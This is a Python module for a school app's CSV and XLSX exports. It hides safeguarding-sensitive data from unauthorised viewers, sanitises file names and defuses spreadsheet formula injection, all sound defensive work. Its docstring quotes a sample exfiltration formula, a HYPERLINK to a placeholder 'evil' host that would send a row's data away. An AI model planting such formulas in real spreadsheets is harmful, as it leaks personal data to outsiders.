"""Harbour's one way to write a spreadsheet: CSV or XLSX, from the same columns and rows.

A download declares its columns once and hands the rows to ``export_response``::

    COLUMNS = [
        Column("UPN", lambda p: p.upn, key=True),
        Column("Date of birth", lambda p: p.date_of_birth, key=True),
        Column("Concern", lambda p: p.latest_concern, sensitivity=Sensitivity.SAFEGUARDING),
    ]
    return export_response(
        request, COLUMNS, pupils, filename=f"cohort-{today:%Y-%m-%d}", file_format="xlsx"
    )

What every export gets, so no view has to remember it:

- Formula injection is defused (OWASP "CSV Injection"): a text cell that begins with ``=``,
  ``+``, ``-``, ``@``, a tab or a carriage return is what a spreadsheet would run as a
  formula (``=HYPERLINK("http://evil/?"&A1, "Click")`` sends the row away). In CSV such a cell
  gets a leading apostrophe, which Excel and LibreOffice read as "text" and hide. In XLSX the
  cell is written as a string, never a formula, and carries Excel's quote-prefix style so it
  stays text when someone edits it.
- Sensitivity (``core.sensitivity``): a column or a row marked SAFEGUARDING is cut to what the
  viewer may see. A column the viewer may see nothing of is left out altogether; one they may
  only know exists says "A safeguarding record exists – speak to the DSL" where it has a
  value. A row the viewer may see nothing of is left out; one they may only know exists keeps
  its ``key`` columns (the child, the date) and says so in place of the rest.
- A safe file name: letters, digits, ``-``, ``_`` and ``.`` only, so a name cannot break out
  of the ``Content-Disposition`` header.

The rows are written into memory and sent as one response: Harbour's exports are one
school's cohort (hundreds of rows), and the view writes its audit event knowing how many
rows left.
"""

import csv
import datetime as dt
import io
import re
from collections.abc import Callable, Collection, Iterable, Sequence
from dataclasses import dataclass
from typing import Any

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

from core.sensitivity import EXISTS_TEXT, Detail, Sensitivity, visible_detail

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = {"csv": CSV_TYPE, "xlsx": XLSX_TYPE}

# OWASP CSV Injection: the characters a spreadsheet treats as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Value = str | int | float | dt.date | None


@dataclass(frozen=True)
class Column:
    header: str
    value: Callable[[Any], Value]
    sensitivity: str = Sensitivity.ORDINARY
    # Kept in a row the viewer may only know exists (the child, the date).
    key: bool = False


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_cell(value: Value) -> str:
    """A CSV cell a spreadsheet will show as text, never run as a formula."""
    text = _text(value)
    return "'" + text if is_formula_like(text) else text


def table_for(
    columns: Sequence[Column],
    rows: Iterable[Any],
    *,
    capabilities: Collection[str],
    row_sensitivity: Callable[[Any], str] | None = None,
) -> tuple[list[str], list[list[Value]]]:
    """The headers and cell values the viewer may see: the one place exports consult
    ``core.sensitivity``."""
    shown = [
        (column, visible_detail(column.sensitivity, capabilities))
        for column in columns
        if visible_detail(column.sensitivity, capabilities) is not Detail.NOTHING
    ]
    table: list[list[Value]] = []
    for row in rows:
        row_detail = (
            visible_detail(row_sensitivity(row), capabilities) if row_sensitivity else Detail.FULL
        )
        if row_detail is Detail.NOTHING:
            continue
        cells: list[Value] = []
        said = False
        for column, detail in shown:
            if row_detail is Detail.EXISTS and not column.key:
                cells.append("" if said else EXISTS_TEXT)
                said = True
                continue
            value = column.value(row)
            if detail is Detail.EXISTS:
                value = EXISTS_TEXT if value not in (None, "") else ""
            cells.append(value)
        table.append(cells)
    return [column.header for column, _ in shown], table


def csv_bytes(headers: Sequence[str], table: Iterable[Sequence[Value]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(csv_cell(h) for h in headers)
    for cells in table:
        writer.writerow(csv_cell(v) for v in cells)
    return out.getvalue().encode("utf-8")


def xlsx_bytes(
    headers: Sequence[str], table: Iterable[Sequence[Value]], *, sheet: str = "Export"
) -> bytes:
    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(title=sheet[:31])
    worksheet.append([_xlsx_cell(worksheet, h) for h in headers])
    for cells in table:
        worksheet.append([_xlsx_cell(worksheet, v) for v in cells])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def safe_filename(name: str) -> str:
    """``cohort-2026-11-23``: letters, digits, ``-``, ``_`` and ``.``; never empty."""
    cleaned = re.sub(r"[^A-Za-z0-9._-]+", "-", name).strip(".-")
    return cleaned[:100] or "export"


def download(content: bytes, *, filename: str, content_type: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{safe_filename(filename)}"'
    return response


def export_response(
    request,
    columns: Sequence[Column],
    rows: Iterable[Any],
    *,
    filename: str,
    file_format: str = "csv",
    row_sensitivity: Callable[[Any], str] | None = None,
) -> tuple[HttpResponse, int]:
    """The download for ``file_format`` ("csv" or "xlsx") and how many rows it holds (for the
    caller's audit event). ``filename`` has no extension: the format adds it."""
    if file_format not in FORMATS:
        raise ValueError(f"Unknown export format {file_format!r}")
    headers, table = table_for(
        columns,
        rows,
        capabilities=getattr(request, "capabilities", frozenset()),
        row_sensitivity=row_sensitivity,
    )
    content = csv_bytes(headers, table) if file_format == "csv" else xlsx_bytes(headers, table)
    response = download(
        content, filename=f"{filename}.{file_format}", content_type=FORMATS[file_format]
    )
    return response, len(table)


def _text(value: Value) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.date):
        return value.isoformat()
    return str(value)


def _xlsx_cell(worksheet, value: Value) -> WriteOnlyCell:
    if isinstance(value, str):
        cell = WriteOnlyCell(worksheet)
        # Assigning ``value`` would make "=..." a formula; set the string type directly.
        cell._value = value
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
        return cell
    cell = WriteOnlyCell(worksheet, value=value)
    if isinstance(value, dt.date):
        cell.number_format = "yyyy-mm-dd"
    return cell
